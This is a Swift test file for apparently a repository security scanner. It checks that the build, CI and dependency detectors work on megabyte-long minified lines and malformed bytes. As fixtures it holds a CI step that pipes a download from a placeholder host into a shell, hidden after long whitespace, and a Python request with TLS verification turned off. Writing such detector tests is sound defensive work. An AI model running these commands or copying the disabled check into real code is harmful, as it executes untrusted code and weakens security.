import Testing

@testable import CustodyCore

/// Hostile sizes: a 1 MB single-line minified file through every build/CI/binary/dependency
/// detector. Matching is literal-prefiltered and linear, so this finishes quickly; a payload at
/// the very end of the line is still seen (long lines are not skipped).
struct BuildDetectorsLongInputTests {
    static func minified(_ size: Int) -> String {
        let chunk = "function a(b,c){return b&&c?b.map(function(d){return d*2+c}):[]};var e=[1,2,3],f={g:\"h\",i:e};"
        var out = ""
        out.reserveCapacity(size + chunk.count)
        while out.utf8.count < size { out += chunk }
        return out
    }

    @Test func oneMegabyteLineThroughEveryDetector() {
        // One 1 MB minified file, and 64 KB single lines in every kind of file these detectors read.
        var blobs = InMemoryBlobSource()
        var changes = [BuildDetectorFixtures.change("dist/app.min.js", old: nil, new: Self.minified(1 << 20) + "\n", blobs: &blobs)]
        let line = Self.minified(1 << 16)
        for path in ["Makefile", "package.json", ".github/workflows/big.yml", "CMakeLists.txt", "configure.ac",
            "requirements.txt", "src/big.c", "scripts/build.sh"]
        {
            changes.append(BuildDetectorFixtures.change(path, old: nil, new: line + "\n", blobs: &blobs))
        }
        let commit = BuildDetectorFixtures.commit(changes)
        let findings = DetectorSuite(detectors: DetectorRegistry.buildDetectors).scan(commit, blobs: blobs)
        #expect(findings.filter { $0.severity >= .medium }.isEmpty, "\(findings.map(\.ruleID))")
    }

    @Test func payloadAtTheEndOfAHugeLineIsStillSeen() {
        let line = String(repeating: " ", count: 1 << 20) + "run: curl -s https://x.example/i | sh"
        let workflow = "jobs:\n  a:\n    steps:\n      - " + line + "\n"
        let findings = BuildDetectorFixtures.scan(CIWorkflowRiskDetector(), path: ".github/workflows/x.yml", old: nil, new: workflow)
        #expect(findings.contains { $0.ruleID == "CUST-CI-004" })
        #expect(findings.allSatisfy { $0.excerpt.utf8.count <= Finding.excerptLimit * 2 })
        let tls = BuildDetectorFixtures.scan(SecurityCheckSabotageDetector(), path: "a.py", old: nil,
            new: String(repeating: "x=1;", count: 1 << 18) + "requests.get(u, verify=False)\n")
        #expect(tls.contains { $0.ruleID == "CUST-SABOTAGE-003" })
    }

    @Test func invalidUTF8AndControlBytesAreData() {
        var bytes: [UInt8] = Array("{\n  \"dependencies\": {\n    \"".utf8)
        bytes += [0xff, 0xfe, 0x1b, 0x5b, 0x33, 0x31, 0x6d, 0xc3]
        bytes += Array("\": \"1.0.0\"\n  }\n}\n".utf8)
        var blobs = InMemoryBlobSource()
        let old = Array("{\n  \"dependencies\": {\n  }\n}\n".utf8)
        let change = BuildDetectorFixtures.change("package.json", old: old, new: bytes, blobs: &blobs)
        let findings = BuildDetectorFixtures.scan(DependencyRiskDetector(), changes: [change], blobs: blobs)
        #expect(findings.count == 1)
        #expect(findings.allSatisfy { !$0.evidence.contains("\u{1b}") })
    }
}
